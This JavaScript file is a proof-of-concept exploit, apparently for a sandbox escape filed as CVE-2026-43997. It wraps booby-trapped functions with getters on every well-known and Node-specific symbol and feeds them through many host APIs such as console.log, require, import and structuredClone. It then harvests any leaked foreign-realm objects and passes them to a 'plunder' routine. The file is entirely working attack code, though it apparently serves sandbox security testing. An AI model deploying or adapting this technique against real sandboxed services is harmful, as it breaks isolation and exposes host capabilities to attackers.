// Symbols that other realms ask for, on every argument (CVE-2026-43997, GHSA-m5q2-4fm3-vfqp).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  const names = ['nodejs.util.inspect.custom', 'nodejs.util.promisify.custom', 'nodejs.rejection', 'nodejs.stream.disposable', 'nodejs.event_target', 'nodejs.worker_threads'];
  const symbols = [...names.map((name) => Symbol.for(name)), ...Object.getOwnPropertyNames(Symbol).map((name) => Symbol[name]).filter((symbol) => typeof symbol === 'symbol')];
  const bait = () => {
    const value = function () { bag.take(this, ...arguments); return value; };
    for (const symbol of symbols) {
      Object.defineProperty(value, symbol, { get() { bag.take(this, symbol); return function () { bag.take(this, ...arguments); return 'x'; }; } });
    }
    return value;
  };
  const calls = [
    (value) => echo(value), (value) => echoSync({ value }), (value) => console.log(value), (value) => progress(0.1, value),
    (value) => artifacts.write(value, value, value), (value) => setTimeout(value, value, value), (value) => require(value),
    (value) => import(value), (value) => new URL(value, value), (value) => structuredClone(value), (value) => atob(value),
    (value) => new TextDecoder(value), (value) => new EventTarget().dispatchEvent(value), (value) => queueMicrotask(value),
    (value) => AbortSignal.any(value), (value) => console.table(value, value), (value) => console.time(value), (value) => reject(value),
  ];
  for (const call of calls) {
    try {
      bag.take(await call(bait()));
    } catch (error) {
      bag.take(error);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 5));
  return plunder(bag.values(), params);
}
